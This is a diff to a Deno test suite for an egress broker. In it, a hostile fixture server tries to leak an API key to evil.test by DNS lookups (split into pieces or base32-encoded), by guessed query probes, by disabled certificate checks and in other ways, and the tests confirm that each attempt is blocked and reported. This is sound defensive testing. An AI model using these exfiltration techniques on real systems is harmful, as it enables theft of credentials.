@@ -51,6 +51,23 @@ def attack(way: str, good: str, evil: str, plain: str) -> str:
         return text(requests.get(evil, auth=("user", KEY)))
     if way == "a name to look up":
         return text(requests.get("http://" + KEY.replace("_", "-") + ".evil.test/"))
+    if way == "names to look up, in pieces":
+        plain = KEY.replace("_", "").lower()
+        for part in [plain[:12], plain[12:24], plain[24:]]:
+            try:
+                requests.get("http://" + part + ".evil.test/")
+            except Exception:
+                pass
+        return "looked up"
+    if way == "names to look up, in base32":
+        name = base64.b32encode(KEY.encode()).decode().rstrip("=").lower()
+        return text(requests.get("http://" + name[:40] + "." + name[40:] + ".evil.test/"))
+    if way == "guesses":
+        sizes = [
+            len(requests.get(good + "/nothing", params={"q": KEY + str(n)}).content)
+            for n in range(24)
+        ]
+        return str(sizes)
     if way == "no certificate check":
         return text(requests.get(good, headers=header, verify=False))
     if way == "no encryption":
@@ -129,20 +146,33 @@ function goodService(stored: { body: string }) {
   };
 }
 
-/** Ways in which the key would leave for a host that it is not for: these are told. */
-const TOLD = new Set([
-  "another host, header",
-  "another host, query",
-  "another host, body",
-  "another host, base64",
-  "another host, hexadecimal",
-  "another host, backwards",
-  "another host, basic",
-  "no certificate check",
-  "no encryption",
-  "a redirect with the header",
-  "a redirect that carries it",
-]);
+/** How each of them is told. What is missing sends the key nowhere else, and is not told. */
+const TOLD: Record<string, string[]> = {
+  "another host, header": ["elsewhere"],
+  "another host, query": ["elsewhere"],
+  "another host, body": ["elsewhere"],
+  "another host, base64": ["elsewhere"],
+  "another host, hexadecimal": ["elsewhere"],
+  "another host, backwards": ["elsewhere"],
+  "another host, basic": ["elsewhere"],
+  "a name to look up": ["host_name"],
+  "names to look up, in pieces": ["host_name"],
+  "names to look up, in base32": ["host_name"],
+  "no certificate check": ["unprotected"],
+  "no encryption": ["elsewhere"],
+  "a redirect with the header": ["elsewhere"],
+  "a redirect that carries it": ["reflected", "elsewhere"],
+  "reflected": ["reflected"],
+  "reflected in base64": ["reflected"],
+  "reflected in hexadecimal": ["reflected"],
+  "reflected with escapes": ["reflected"],
+  "reflected, packed": ["reflected"],
+  "reflected in parts": ["reflected"],
+  "reflected in headers": ["reflected"],
+  "stored and fetched": ["reflected"],
+  "guesses": ["probing"],
+  "the length of answers": ["reflected"],
+};
 const WAYS = [...HOSTILE.matchAll(/way == "([^"]+)"/g)].map(([, way]) => way!);
 
 /** The key, and everything that it is easily made from. */
@@ -175,7 +205,7 @@ Deno.test("a hostile server gets its key out in none of twenty ways, and its att
     evilSaw.push(request.url, JSON.stringify([...request.headers]), await request.text());
     return new Response("thanks");
   });
-  const told: { name: string; target: string }[] = [];
+  const told: { name: string; target: string; way: string }[] = [];
   const egress = createEgressBroker({
     policy: parseEgressPolicy(["127.0.0.1"], ["*"]),
     own: { endpoints: [], interfaces: [], resolve: () => Promise.resolve([]) },
@@ -183,7 +213,7 @@ Deno.test("a hostile server gets its key out in none of twenty ways, and its att
     ca: [read("ca.pem")],
     now: () => performance.now(),
     log,
-    onElsewhere: ({ name, target }) => told.push({ name, target }),
+    onAttempt: ({ name, target, way }) => told.push({ name, target, way }),
   });
   const bytes = new TextEncoder().encode(HOSTILE);
   const archiveSha256 = await sha256Of(bytes);
@@ -237,7 +267,8 @@ Deno.test("a hostile server gets its key out in none of twenty ways, and its att
         assert(!learnt.includes("no such way"), learnt);
         const known = [learnt, JSON.stringify(lines), ...evilSaw].join("\n");
         for (const shape of shapesOf(SECRET)) assert(!known.includes(shape), `${way}: ${learnt}`);
-        assertEquals(told.some(({ name }) => name === "API_KEY"), TOLD.has(way), learnt);
+        const ways = new Set(told.filter(({ name }) => name === "API_KEY").map((each) => each.way));
+        assertEquals([...ways], TOLD[way] ?? [], learnt);
       });
     }
     // The service that the key is for did get it, or nothing would have been tried.
